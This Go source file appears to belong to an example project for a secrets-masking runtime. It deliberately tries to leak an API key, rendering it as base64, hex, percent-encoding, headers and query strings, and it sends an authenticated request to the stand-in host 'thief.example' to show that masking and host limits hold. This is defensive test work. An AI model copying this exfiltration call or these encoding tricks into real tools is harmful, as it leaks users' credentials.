package store

import (
	"context"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptrace"
	"net/url"
	"strings"

	"github.com/mcpsecrets/mcpsecrets/examples/petstore/internal/api"
	secrets "github.com/mcpsecrets/mcpsecrets/runtime"
)

// Leaks gives away all of the key that code can reach, as a tool might by mistake: what a getter returns, and what is left of a request
// that carried the key.
func (s *Store) Leaks(ctx context.Context, key secrets.Secret) (map[string]map[string]string, error) {
	sent, err := s.sent(ctx)
	return map[string]map[string]string{"getter": Written(key), "client": sent}, err
}

// sent sends a request with the key, and returns where it would be in one that was made by hand. There is nothing of it, so nothing has
// to be masked.
func (s *Store) sent(ctx context.Context) (map[string]string, error) {
	traced := 0
	ctx = httptrace.WithClientTrace(ctx, &httptrace.ClientTrace{WroteHeaderField: func(string, []string) { traced++ }})
	request, err := http.NewRequestWithContext(ctx, http.MethodGet, address+"pets/1", nil)
	if err != nil {
		return nil, err
	}
	response, err := s.withKey.Do(request)
	if err != nil {
		return nil, reason(err)
	}
	defer func() { _ = response.Body.Close() }()
	if err := decode(response, &api.Pet{}); err != nil { // without the key, the store answers 401
		return nil, err
	}
	return map[string]string{
		"status":           response.Status,
		"headers, before":  fmt.Sprint(request.Header),
		"headers, after":   fmt.Sprint(response.Request.Header),
		"headers, traced":  fmt.Sprint(traced),
		"client, in fmt":   fmt.Sprintf("%+v", *s.withKey),
		"to somebody else": s.elsewhere(ctx).Error(),
	}, nil
}

// elsewhere tries to send the key to another host than that of base_url, and returns why that does not work.
func (s *Store) elsewhere(ctx context.Context) error {
	request, err := http.NewRequestWithContext(ctx, http.MethodGet, "https://thief.example/", nil)
	if err != nil {
		return err
	}
	response, err := s.withKey.Do(request)
	if err != nil {
		return reason(err)
	}
	_ = response.Body.Close()
	return errors.New("it was sent")
}

// Written returns a key in the ways in which keys turn up in results. What arrives is masked.
func Written(key secrets.Secret) map[string]string {
	text := key.Reveal()
	inJSON, _ := json.Marshal(map[string]string{"key": text}) // always works
	return map[string]string{
		"printed":    "the key is " + text + ".",
		"header":     "Authorization: Bearer " + text,
		"query":      "https://petstore.example/pets?" + url.Values{"key": {text}}.Encode(),
		"json":       string(inJSON),
		"base64":     base64.StdEncoding.EncodeToString([]byte(text)),
		"base64 url": base64.RawURLEncoding.EncodeToString([]byte("keeper:" + text)),
		"hex":        hex.EncodeToString([]byte(text)),
		"HEX":        strings.ToUpper(hex.EncodeToString([]byte(text))),
		"percent":    "%" + strings.Join(strings.Split(fmt.Sprintf("% x", text), " "), "%"),
		"first half": text[:len(text)/2+len("pets-")],
	}
}
